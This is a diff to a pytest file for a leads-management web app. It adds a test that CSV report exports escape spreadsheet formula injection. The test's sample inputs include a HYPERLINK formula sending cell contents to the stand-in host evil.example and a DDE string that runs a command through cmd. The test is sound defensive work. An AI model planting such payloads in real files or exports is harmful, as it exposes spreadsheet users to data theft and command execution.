@@ -10,10 +10,14 @@ from collections.abc import Callable
 import pytest
 from starlette.testclient import TestClient
 
+from leadsmanager.application.intake import LeadForm
+from leadsmanager.application.users import NewUser
 from leadsmanager.domain.actor import Actor
+from leadsmanager.domain.lead import Channel
+from leadsmanager.domain.roles import Role
 from leadsmanager.domain.status import LeadStatus
 from leadsmanager.entrypoints.container import Container
-from tests.web.conftest import Staff
+from tests.web.conftest import PASSWORD, Staff
 
 FIGURE = re.compile(r'data-figure="(\w+)">([^<]*)<')
 
@@ -90,3 +94,24 @@ def test_a_period_without_leads_says_so(as_role: Callable[[str], TestClient], wo
 def test_bad_input_is_named(as_role: Callable[[str], TestClient], staff: Staff, query: str, message: str) -> None:
     response = as_role("manager").get(f"/reports?{query}")
     assert response.status_code == 400 and message in response.text
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)")
+
+
+def test_report_csv_cells_never_start_a_formula(
+    as_role: Callable[[str], TestClient], container: Container, staff: Staff
+) -> None:
+    hyperlink, plus, minus, at = FORMULAS
+    rep = container.user_admin().create(NewUser("at@example.com", at, Role.EMPLOYEE, PASSWORD), by=Actor.system())
+    form = LeadForm(Channel.API, name=hyperlink, email="f@example.com", service=hyperlink, site=plus, form_id=minus)
+    container.assign_lead()(container.submit_lead()(form).lead_id, rep.id, by=Actor.system())
+    manager = as_role("manager")
+    cells = {
+        cell
+        for name in ("sites", "services", "reps")
+        for row in rows(manager.get(f"/reports/{name}.csv").text)
+        for cell in row
+    }
+    assert {f"'{formula}" for formula in FORMULAS} <= cells
+    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
